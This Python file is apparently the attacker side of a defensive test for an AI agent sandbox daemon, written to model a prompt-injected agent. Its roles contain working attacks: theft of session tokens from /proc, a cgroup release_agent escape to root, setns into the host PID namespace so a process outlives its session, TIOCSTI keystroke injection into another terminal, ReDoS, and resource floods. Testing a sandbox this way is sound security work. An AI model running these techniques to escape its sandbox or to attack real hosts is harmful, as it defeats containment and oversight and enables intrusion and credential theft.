"""The hostile agent of `just hostile-trial`: what runs INSIDE the sessions it attacks from.

Plain Python (the stdlib only) and the `bench` CLI, as a prompt-injected agent has them:
it talks to the daemon through `bench` or its socket directly, forks, reads /proc and
walks BENCH_DIR. Every role writes what it saw as JSON into OUT, a scratch directory
outside BENCH_DIR that the trial (tools/proofs/hostile_trial.py) reads.

    python hostile_agent.py ROLE OUT [ARGS...]

Roles: churn (spawn jobs as fast as allowed, each spawning more), flood (spawn what it
may, then send as fast as it can), probe (tokens, foreign files, the escaped child, the
accept race, the `(a+)+$` pattern), escape (the escaped child itself); and the attacks
on the sandbox itself, each writing OUT/<role>-<handle>.json: caps, unmount (what hides
BENCH_DIR and /proc), cgroup (a release_agent), leave (a process left in the host's PID
namespace), tty MODE PATH [SECONDS [TEXT]] (another session's terminal: read, write, hold, prompt,
tcsetattr, tiocsti), other-daemon SOCKET (another daemon's socket).
"""

import ctypes
import errno
import fcntl
import glob
import json
import os
import signal
import socket
import subprocess
import sys
import termios
import threading
import time

ME = os.path.abspath(__file__)
BENCH_DIR = os.environ.get("BENCH_DIR", "")
SOCK = os.path.join(BENCH_DIR, "benchd.sock")
HANDLE = os.environ.get("BENCH_HANDLE", "?")
TOKEN = os.environ.get("BENCH_TOKEN")


def write(out: str, name: str, data) -> None:
    """Atomically, so the trial never reads half a file."""
    path = os.path.join(out, name)
    with open(path + ".tmp", "w") as f:
        json.dump(data, f)
    os.rename(path + ".tmp", path)


class Raw:
    """One connection to the daemon's socket, newline-delimited JSON, no bench code."""

    def __init__(self, token: str | None = TOKEN):
        self.s = socket.socket(socket.AF_UNIX)
        self.s.settimeout(60)
        self.s.connect(SOCK)
        self.token = token
        self.buf = b""
        self.n = 0

    def ask(self, verb: str, **fields) -> dict:
        self.n += 1
        req = {"verb": verb, "id": self.n, **fields}
        if self.token:
            req["token"] = self.token
        self.s.sendall(json.dumps(req).encode() + b"\n")
        while b"\n" not in self.buf:
            chunk = self.s.recv(65536)
            if not chunk:
                return {"ok": False, "error": {"code": "closed"}}
            self.buf += chunk
        line, self.buf = self.buf.split(b"\n", 1)
        return json.loads(line)

    def close(self) -> None:
        self.s.close()


def code(answer: dict) -> str:
    return "ok" if answer.get("ok", True) else answer.get("error", {}).get("code", "?")


def tally(counts: dict, key: str) -> None:
    counts[key] = counts.get(key, 0) + 1


def job(role: str, out: str, *args: str) -> dict:
    """A session/spawn request's fields for a child job running this file as `role`."""
    return {
        "argv": [sys.executable, ME, role, out, *args],
        "cwd": out,
        "job": {"body": f"{role} task", "subject": role},
    }


# ---------------------------------------------------------------- churn


def churn(out: str, end: str, top: str = "") -> None:
    """Spawn jobs as fast as allowed until END (wall time), each job doing the same. A job
    below the top one leaves once it has started its share, so its parent may start more;
    the top one also mails new handles on a second connection, as fast as it goes, to
    make as many mailboxes as it may."""
    end_t = float(end)
    conn = Raw()
    spawned, refused = 0, {}
    boxes = {"made": 0, "refused": {}}
    max_children = conn.ask("hello")["caps"]["max_children"]

    def new_mailboxes() -> None:
        mail, i = Raw(), 0
        while time.time() < end_t:
            i += 1
            m = mail.ask("mail/send", to=f"junk-{HANDLE}-{i}", body="x")
            if code(m) == "ok":
                boxes["made"] += 1
            else:
                tally(boxes["refused"], code(m))
                time.sleep(0.05)

    if top:
        mailer = threading.Thread(target=new_mailboxes, daemon=True)
        mailer.start()
    while time.time() < end_t:
        a = conn.ask("session/spawn", **job("churn", out, end))
        if code(a) == "ok":
            spawned += 1
        else:
            tally(refused, code(a))
        if not top and spawned >= max_children:
            break
        if code(a) != "ok":
            time.sleep(0.05)
    if top:
        mailer.join()
    write(out, f"churn-{HANDLE}.json", {
        "handle": HANDLE, "spawned": spawned, "refused": refused,
        "mailboxes": boxes["made"], "mail_refused": boxes["refused"],
    })  # fmt: skip


# ---------------------------------------------------------------- flood


def flood(out: str, target: str) -> None:
    """Spawn as many flooders below itself as it may, say ready, wait for OUT/go, then send
    to `target` as fast as one connection goes until the window ends; never back off."""
    conn = Raw()
    children, refused = 0, {}
    for _ in range(conn.ask("hello")["caps"]["max_children"]):
        a = conn.ask("session/spawn", **job("flood", out, target))
        if code(a) == "ok":
            children += 1
        else:
            tally(refused, code(a))
    write(out, f"ready-{HANDLE}.json", {"children": children, "refused": refused})
    go = os.path.join(out, "go")
    while not os.path.exists(go):
        time.sleep(0.02)
    with open(go) as f:
        start, end = json.load(f)
    while time.time() < start:
        time.sleep(0.005)
    acked, codes, i = 0, {}, 0
    while time.time() < end:
        i += 1
        a = conn.ask("mail/send", to=target, body=f"flood {HANDLE} {i}")
        if code(a) == "ok":
            acked += 1
        else:
            tally(codes, code(a))
    write(out, f"sent-{HANDLE}.json", {"acked": acked, "refused": codes})
    time.sleep(600)  # the trial ends the tree


# ---------------------------------------------------------------- probe: (c) snooping


def snoop(known: list[str]) -> dict:
    """Every BENCH_TOKEN in every /proc/*/environ, and every file under BENCH_DIR (and the
    paths the trial names) opened for reading; what worked is the attack's success."""
    found: dict = {"pids": 0, "tokens": [], "token_callers": {}, "read": [], "tried": 0}
    for path in glob.glob("/proc/[0-9]*/environ"):
        found["pids"] += 1
        try:
            with open(path, "rb") as f:
                env = f.read().split(b"\0")
        except OSError:
            continue
        for kv in env:
            if kv.startswith(b"BENCH_TOKEN="):
                tok = kv.split(b"=", 1)[1].decode()
                if tok != TOKEN and tok not in found["tokens"]:
                    found["tokens"].append(tok)
    for tok in found["tokens"]:  # what a stolen token makes of us
        try:
            found["token_callers"][tok[:8]] = Raw(tok).ask("hello").get("caller", "refused")
        except OSError as err:
            found["token_callers"][tok[:8]] = f"error {err}"
    own = os.path.join(BENCH_DIR, "mail", HANDLE) + os.sep
    paths = set(known)
    for root, _dirs, files in os.walk(BENCH_DIR, onerror=lambda e: None):
        paths.update(os.path.join(root, n) for n in files)
    for name in ("index.sqlite", "events.jsonl", "benchd.log", "jobs", "sessions"):
        paths.add(os.path.join(BENCH_DIR, name))
    paths.update(os.path.join(BENCH_DIR, "journal", f"{i:08d}.log") for i in range(4))
    for path in sorted(paths):
        if path.startswith(own) or path.endswith("benchd.sock"):
            continue  # its own mail is its own to read
        found["tried"] += 1
        try:
            with open(path, "rb") as f:
                f.read(1)
            found["read"].append(path)
        except OSError:
            pass
    try:  # and plant something where the daemon would find it
        with open(os.path.join(BENCH_DIR, "mail", "victim", "inbox", "planted.md"), "w") as f:
            f.write("planted")
        found["planted"] = True
    except OSError:
        found["planted"] = False
    found["listing"] = sorted(os.listdir(BENCH_DIR)) if os.path.isdir(BENCH_DIR) else []
    return found


# ---------------------------------------------------------------- probe: (d) escaping


def escape(out: str, mode: str) -> None:
    """The escaped child: connect (placed as this job's session), fork a child that calls
    setsid (and forks again if `double`), keep the socket, and exit, so the session ends.
    The child holds OUT/alive-MODE (a FIFO) open while it lives; once told to (OUT/go-MODE)
    it speaks on the old connection and a new one, without a token."""
    os.environ.pop("BENCH_TOKEN", None)
    conn = Raw(token=None)
    before = conn.ask("hello").get("caller")
    if os.fork() == 0:
        os.setsid()
        if mode == "double" and os.fork() != 0:
            os._exit(0)
        alive = os.open(os.path.join(out, f"alive-{mode}"), os.O_WRONLY)  # noqa: F841
        write(out, f"esc-ready-{mode}.json", {"before": before})
        deadline = time.monotonic() + 60
        while not os.path.exists(os.path.join(out, f"go-{mode}")):
            if time.monotonic() > deadline:
                os._exit(0)
            time.sleep(0.02)
        got = {}
        for name, c in (("old", conn), ("new", None)):
            try:
                c = c or Raw(token=None)
                h = c.ask("hello")
                got[name] = h.get("caller") or code(h)
                got[name + "_list"] = code(c.ask("mail/list", handle="victim"))
            except OSError as err:
                got[name] = got[name + "_list"] = f"closed ({type(err).__name__})"
        write(out, f"esc-result-{mode}.json", got)
        os._exit(0)
    deadline = time.monotonic() + 60
    while not os.path.exists(os.path.join(out, f"esc-ready-{mode}.json")):
        if time.monotonic() > deadline:
            break
        time.sleep(0.01)
    os._exit(0)  # the session ends here; the child lives on only outside a sandbox


def _eof(fd: int) -> bool:
    try:
        return os.read(fd, 1) == b""
    except BlockingIOError:
        return False


def bench(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(
        ["bench", *args], input=stdin, capture_output=True, text=True, timeout=120
    )


def escaped_child(out: str, mode: str) -> str:
    """Start the escape as a job of ours, wait for its session to end, then let the child
    speak (if it still lives). The outcome in one word or two."""
    fifo = os.path.join(out, f"alive-{mode}")
    os.mkfifo(fifo)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
    try:
        name = f"esc-{mode}-{HANDLE}"
        p = bench("spawn", "--name", name, "--mail", "-", "--", sys.executable, ME,
                  "escape", out, mode, stdin="escape")  # fmt: skip
        if p.returncode != 0:
            return f"spawn refused: {p.stderr.strip()}"
        bench("job", "wait", name, "--timeout", "60s")
        ready = os.path.join(out, f"esc-ready-{mode}.json")
        deadline = time.monotonic() + 30
        while not os.path.exists(ready) and time.monotonic() < deadline:
            time.sleep(0.02)
        if not os.path.exists(ready):
            return "no child"
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            if _eof(reader):
                return "died with its session"
            time.sleep(0.05)
        open(os.path.join(out, f"go-{mode}"), "w").close()
        result = os.path.join(out, f"esc-result-{mode}.json")
        deadline = time.monotonic() + 30
        while not os.path.exists(result) and time.monotonic() < deadline:
            time.sleep(0.02)
        if not os.path.exists(result):
            return "no answer"
        with open(result) as f:
            got = json.load(f)
        return f"old: {got['old']}/{got['old_list']}; new: {got['new']}/{got['new_list']}"
    finally:
        os.close(reader)


def accept_race(n: int) -> dict:
    """Connect, fork, the connecting process exits at once, its child speaks (no token):
    hello, then another's mailbox. N times; the tally of what the daemon made of it."""
    os.environ.pop("BENCH_TOKEN", None)
    counts: dict = {}
    r, w = os.pipe()
    for _ in range(n):
        pid = os.fork()
        if pid == 0:
            s = Raw(token=None)
            if os.fork() == 0:
                try:
                    h = s.ask("hello")
                    got = (
                        (h.get("caller") or code(h))
                        + " "
                        + code(s.ask("mail/list", handle="victim"))
                    )
                except OSError as err:
                    got = "error " + type(err).__name__
                os.write(w, got.encode() + b"\n")
                os._exit(0)
            os._exit(0)
        os.waitpid(pid, 0)
        line = b""
        while not line.endswith(b"\n"):
            line += os.read(r, 1)
        tally(counts, line.decode().strip().replace(HANDLE, "itself"))
    return counts


# ---------------------------------------------------------------- probe: (e) the pattern


def pattern(out: str, hold: float) -> dict:
    """A job whose --ready pattern backtracks exponentially on a backtracking engine, fed
    the output that makes it; the trial times the operator meanwhile (OUT/pattern-*)."""
    write(out, "pattern-start.json", {"t": time.time()})
    name = f"redos-{HANDLE}"
    t0 = time.monotonic()
    p = bench("spawn", "--name", name, "--mail", "-", "--ready", "(a+)+$", "--",
              "sh", "-c", "printf '" + "a" * 40 + "!'; sleep 300", stdin="match this")  # fmt: skip
    spawn_s = time.monotonic() - t0
    time.sleep(hold)
    t0 = time.monotonic()
    k = bench("kill", name, "--tree")
    kill_s = time.monotonic() - t0
    write(out, "pattern-done.json", {"t": time.time()})
    return {
        "spawn_rc": p.returncode,
        "spawn_err": p.stderr.strip(),
        "spawn_s": spawn_s,
        "kill_rc": k.returncode,
        "kill_s": kill_s,
    }


def probe(out: str, race_n: str, hold: str) -> None:
    with open(os.path.join(out, "known.json")) as f:
        known = json.load(f)  # paths the trial names: the victim's mail, the state files
    result = {"handle": HANDLE, "snoop": snoop(known)}
    result["escape"] = {mode: escaped_child(out, mode) for mode in ("setsid", "double")}
    result["race"] = accept_race(int(race_n))
    result["pattern"] = pattern(out, float(hold))
    write(out, "probe.json", result)
    time.sleep(600)


# ---------------------------------------------------------------- the sandbox itself

MNT_DETACH = 2
CLONE_NEWPID = 0x20000000
_libc = ctypes.CDLL(None, use_errno=True)


def _sys(rc: int) -> str:
    """'ok', or the name of the errno a libc call set."""
    return "ok" if rc == 0 else errno.errorcode.get(ctypes.get_errno(), "?")


def _tokens() -> list[str]:
    """Other sessions' tokens in every environment /proc shows."""
    found = []
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as f:
                env = f.read().split(b"\0")
        except OSError:
            continue
        for kv in env:
            tok = kv.split(b"=", 1)[1].decode() if kv.startswith(b"BENCH_TOKEN=") else None
            if tok and tok != TOKEN and tok not in found:
                found.append(tok)
    return found


def caps(out: str) -> None:
    with open("/proc/self/status") as f:
        eff = next(line.split()[1] for line in f if line.startswith("CapEff:"))
    write(out, f"caps-{HANDLE}.json", {"cap_eff": eff, "uid": os.getuid()})


def unmount(out: str) -> None:
    """Take away what hides BENCH_DIR and the session's /proc (finding 1), then look."""
    got: dict = {"bench_dir": _sys(_libc.umount2(BENCH_DIR.encode(), MNT_DETACH))}
    got["listing"] = sorted(os.listdir(BENCH_DIR))
    try:
        with open(os.path.join(BENCH_DIR, "mail", "victim", "inbox", "planted.md"), "w") as f:
            f.write("planted")
        got["planted"] = True
    except OSError:
        got["planted"] = False
    got["proc"] = _sys(_libc.umount2(b"/proc", MNT_DETACH))
    got["pids"] = len(glob.glob("/proc/[0-9]*"))
    got["tokens"] = len(_tokens())
    write(out, f"unmount-{HANDLE}.json", got)


def release_agent(out: str, script_text: str) -> str:
    """Mount a cgroup-v1 hierarchy of our own, make SCRIPT_TEXT its release_agent, put a
    process in a group with notify_on_release and let it exit: the kernel then runs the
    script as root, outside every namespace. 'ok' when the mount worked (and the group
    was emptied), else why not."""
    where = os.path.join(out, f"cg-{HANDLE}")
    os.makedirs(where, exist_ok=True)
    mounted = _sys(_libc.mount(b"cgroup", where.encode(), b"cgroup", 0, b"none,name=bench-esc"))
    if mounted != "ok":
        return mounted
    script = os.path.join(out, f"release-{HANDLE}.sh")
    with open(script, "w") as f:
        f.write("#!/bin/sh\n" + script_text)
    os.chmod(script, 0o755)
    group = os.path.join(where, f"x{os.getpid()}")
    os.makedirs(group, exist_ok=True)
    try:
        with open(os.path.join(where, "release_agent"), "w") as f:
            f.write(script)
        with open(os.path.join(group, "notify_on_release"), "w") as f:
            f.write("1")
        subprocess.run(["sh", "-c", f"echo $$ > {group}/cgroup.procs"], check=False)
    except OSError as err:
        return errno.errorcode.get(err.errno or 0, str(err))
    return "ok"


def cgroup(out: str) -> None:
    """A cgroup-v1 release_agent (finding 2) that says where it ran; also the
    release_agent of every hierarchy already mounted (written back unchanged)."""
    got: dict = {"existing": {}}
    for path in glob.glob("/sys/fs/cgroup/*/release_agent"):
        try:
            with open(path) as f:
                was = f.read()
            with open(path, "w") as f:
                f.write(was or "\n")  # the same value back: writable is the finding
            got["existing"][path] = "written"
        except OSError as err:
            got["existing"][path] = errno.errorcode.get(err.errno or 0, str(err))
    ran = os.path.join(out, f"released-{HANDLE}.txt")
    got["mount"] = release_agent(
        out, f'echo "ran as $(id -u) in $(readlink /proc/self/ns/pid)" > {ran}\n'
    )
    if got["mount"] == "ok":
        deadline = time.monotonic() + 10
        while not os.path.exists(ran) and time.monotonic() < deadline:
            time.sleep(0.05)
    got["released"] = os.path.exists(ran)
    write(out, f"cgroup-{HANDLE}.json", got)


def leave(out: str, marker: str) -> None:
    """A process that leaves the session's PID namespace (finding 4) and would outlive
    the session's deadline: setns into the host's (with /proc unmounted, its pid 1
    shows), and a sleeper (argv carries MARKER) started by a cgroup release_agent."""
    got = {"proc": _sys(_libc.umount2(b"/proc", MNT_DETACH))}
    try:
        fd = os.open("/proc/1/ns/pid", os.O_RDONLY)
        got["setns"] = _sys(_libc.setns(fd, CLONE_NEWPID))
        os.close(fd)
    except OSError as err:
        got["setns"] = errno.errorcode.get(err.errno or 0, str(err))
    if got["setns"] == "ok" and os.fork() == 0:
        os.setsid()
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", marker])
    sleeper = "import time; time.sleep(600)"
    got["release_agent"] = release_agent(
        out, f"setsid {sys.executable} -c '{sleeper}' {marker} </dev/null >/dev/null 2>&1 &\n"
    )
    write(out, f"leave-{HANDLE}.json", got)
    time.sleep(600)  # the deadline ends the session


def tty(out: str, mode: str, path: str, seconds: str = "0", text: str = "") -> None:
    """Another session's terminal, PATH (findings 3, 5-10). Open it, then per MODE:
    read (its input), write TEXT (its screen), hold (a byte every 0.5 s: never idle),
    prompt (TEXT once, as its ready prompt), tcsetattr (no echo, no line editing),
    tiocsti (type TEXT into its input)."""
    got: dict = {"mode": mode, "stolen": "", "done": 0}
    try:
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
        got["open"] = "ok"
    except OSError as err:
        got["open"] = errno.errorcode.get(err.errno or 0, str(err))
        write(out, f"tty-{mode}-{HANDLE}.json", got)
        return
    write(out, f"tty-{mode}-{HANDLE}.opened", {})
    end = time.monotonic() + float(seconds)
    try:
        if mode == "read":
            # Blocking reads, as the victim's shell does: each line goes to one reader.
            os.set_blocking(fd, True)

            def over(*_):
                raise TimeoutError

            signal.signal(signal.SIGALRM, over)
            signal.setitimer(signal.ITIMER_REAL, float(seconds))
            try:
                while True:
                    got["stolen"] += os.read(fd, 4096).decode(errors="replace")
            except TimeoutError:
                pass
        elif mode in ("write", "prompt"):
            os.write(fd, text.encode())
            got["done"] = 1
        elif mode == "hold":
            while time.monotonic() < end:
                os.write(fd, b".")
                got["done"] += 1
                time.sleep(0.5)
        elif mode == "tcsetattr":
            attrs = termios.tcgetattr(fd)
            attrs[3] &= ~(termios.ECHO | termios.ICANON)
            termios.tcsetattr(fd, termios.TCSANOW, attrs)
            got["done"] = 1
        elif mode == "tiocsti":
            for ch in text:
                fcntl.ioctl(fd, termios.TIOCSTI, ch.encode())
                got["done"] += 1
    except OSError as err:
        got["error"] = errno.errorcode.get(err.errno or 0, str(err))
    os.close(fd)
    write(out, f"tty-{mode}-{HANDLE}.json", got)


def other_daemon(out: str, sock: str) -> None:
    """Another daemon's socket (of the same user, its BENCH_DIR not hidden from us): what
    it takes us for, and whether it lets us spawn outside every sandbox."""
    global SOCK
    SOCK = sock
    got: dict = {}
    try:
        c = Raw(token=None)
        h = c.ask("hello")
        got["hello"] = h.get("caller") or code(h)
        got["list"] = code(c.ask("mail/list", handle="victim"))
        got["no_sandbox"] = code(c.ask("session/spawn", argv=["true"], cwd="/", sandbox=False))
    except OSError as err:
        got["hello"] = f"closed ({type(err).__name__})"
    write(out, f"other-daemon-{HANDLE}.json", got)


# ---------------------------------------------------------------- findings 11-16


def refusals(out: str, seconds: str) -> None:
    """11: `mail wait --from <itself>` in a loop on one connection for SECONDS: each is
    refused at once (would-deadlock); the trial weighs what the event log grew by."""
    c = Raw()
    counts: dict = {}
    write(out, f"refusals-start-{HANDLE}.json", {"t": time.time()})
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        tally(counts, code(c.ask("mail/wait", **{"from": HANDLE}, timeout=1)))
    write(out, f"refusals-{HANDLE}.json", {"counts": counts})


def asker(out: str, to: str, stranger: str) -> None:
    """12: send to TO, then `mail wait --reply-to` it (a second at a time) until the
    STRANGER has done its worst and two seconds more: what ends the wait, and how."""
    c = Raw()
    sent = c.ask("mail/send", to=to, body="a question only the recipient can answer")
    write(out, f"asked-{HANDLE}.json", {"mail_id": sent.get("mail_id"), "code": code(sent)})
    done = os.path.join(out, f"stranger-{stranger}.json")
    end = time.monotonic() + 60
    while time.monotonic() < end:
        got = c.ask("mail/wait", reply_to=sent.get("mail_id"), timeout=1)
        if code(got) != "timeout":
            break
        if os.path.exists(done):
            end = min(end, os.path.getmtime(done) - time.time() + time.monotonic() + 2)
    write(out, f"waited-{HANDLE}.json", {"code": code(got), "from": got.get("from")})


def _sent_by(sender: str, to: str, timeout: float = 30) -> dict | None:
    """A mail/sent event from SENDER to TO, as `bench events` shows it to anyone."""
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        p = bench("events", "--kind", "mail/sent", "--json")
        for line in p.stdout.splitlines():
            try:
                e = json.loads(line)
            except ValueError:
                continue
            if e.get("from") == sender and e.get("to") == to:
                return e
        time.sleep(0.2)
    return None


def stranger(out: str, sender: str, to: str) -> None:
    """12: reply to SENDER's message to TO (its id from `bench events`), once to ourselves
    and once to SENDER, though it was never ours to answer."""
    e = _sent_by(sender, to)
    got: dict = {"found": e is not None}
    if e:
        c = Raw()
        for who in (HANDLE, sender):
            a = c.ask("mail/send", to=who, body="a reply from a stranger", in_reply_to=e["mail_id"])
            got[f"to {who}"] = code(a)
        got["mail_id"] = e["mail_id"]
    write(out, f"stranger-{HANDLE}.json", got)


def connect(out: str, hold: str, jobs: str = "0") -> None:
    """13: spawn JOBS jobs doing the same, then open connections until refused (each says
    hello, as a client must), hold them until OUT/conn-stop or HOLD seconds."""
    c = Raw()
    spawned = [code(c.ask("session/spawn", **job("connect", out, hold), name=f"{HANDLE}-{i}"))
               for i in range(int(jobs))]  # fmt: skip
    held: list = []
    refused: dict = {}
    try:  # the connection the spawns went on counts only if it answers
        first = code(c.ask("hello"))
    except OSError as err:  # refused: the daemon said why and closed it
        first = type(err).__name__
    if first == "ok":
        held.append(c)
    else:
        tally(refused, first)
    for _ in range(400 if not refused else 0):
        try:
            r = Raw()
            a = r.ask("hello")
        except OSError as err:
            tally(refused, type(err).__name__)
            break
        if not a.get("ok", True) or a.get("error"):
            tally(refused, code(a))
            r.close()
            break
        held.append(r)
    write(out, f"conn-{HANDLE}.json", {"held": len(held), "refused": refused,
                                        "spawned": spawned})  # fmt: skip
    end = time.monotonic() + float(hold)
    while time.monotonic() < end and not os.path.exists(os.path.join(out, "conn-stop")):
        time.sleep(0.1)


def bystander(out: str, to: str, n: str) -> None:
    """13: once OUT/conn-go exists, N sends, each on a fresh connection as the CLI makes."""
    while not os.path.exists(os.path.join(out, "conn-go")):
        time.sleep(0.05)
    counts: dict = {}
    for i in range(int(n)):
        try:
            c = Raw()
            tally(counts, code(c.ask("mail/send", to=to, body=f"bystander {i}")))
            c.close()
        except OSError as err:
            tally(counts, type(err).__name__)
    write(out, f"bystander-{HANDLE}.json", counts)


def plant(out: str, project: str, victim: str) -> None:
    """14 and 15: team files written where the operator will run `bench up`: PROJECT's
    ./bench.toml names VICTIM's inbox file (its path from `bench events`) as a task file;
    bad-*/bench.toml in OUT lift limits or nest too deep."""
    e = _sent_by("operator", victim)
    got: dict = {"path": e and e.get("path")}
    if e:
        with open(os.path.join(project, "bench.toml"), "w") as f:
            f.write(f'[agents.planted]\ncommand = ["sleep", "600"]\n'
                    f"task-file = {json.dumps(e['path'])}\n")  # fmt: skip
    bad = {
        "spawn-rate": "[daemon]\nspawn-rate = 1_000_000_000\n",
        "operator-reserve": "[daemon]\noperator-reserve = 0\n",
        "deadline": '[daemon]\nmax-deadline = 1e30\n[agents.late]\ncommand = ["sleep", "600"]\ntask = "t"\ndeadline = "1e23d"\n',
        "nesting": "x = " + "[" * 100_000 + "]" * 100_000 + "\n",
    }
    for name, text in bad.items():
        os.makedirs(os.path.join(out, f"bad-{name}"), exist_ok=True)
        with open(os.path.join(out, f"bad-{name}", "bench.toml"), "w") as f:
            f.write(text)
    write(out, f"plant-{HANDLE}.json", got)


def wait_received(out: str) -> None:
    """16: take the mail we were sent, then `mail wait --reply-to` that very message: only
    we could answer it, so the wait can never end."""
    c = Raw()
    m = c.ask("mail/wait", timeout=60)
    got = c.ask("mail/wait", reply_to=m.get("mail_id"), timeout=3)
    write(out, f"received-{HANDLE}.json", {"first": code(m), "code": code(got)})


ROLES = {
    "churn": churn,
    "flood": flood,
    "probe": probe,
    "escape": escape,
    "caps": caps,
    "unmount": unmount,
    "cgroup": cgroup,
    "leave": leave,
    "tty": tty,
    "other-daemon": other_daemon,
    "refusals": refusals,
    "asker": asker,
    "stranger": stranger,
    "connect": connect,
    "bystander": bystander,
    "plant": plant,
    "wait-received": wait_received,
}

if __name__ == "__main__":
    ROLES[sys.argv[1]](*sys.argv[2:])
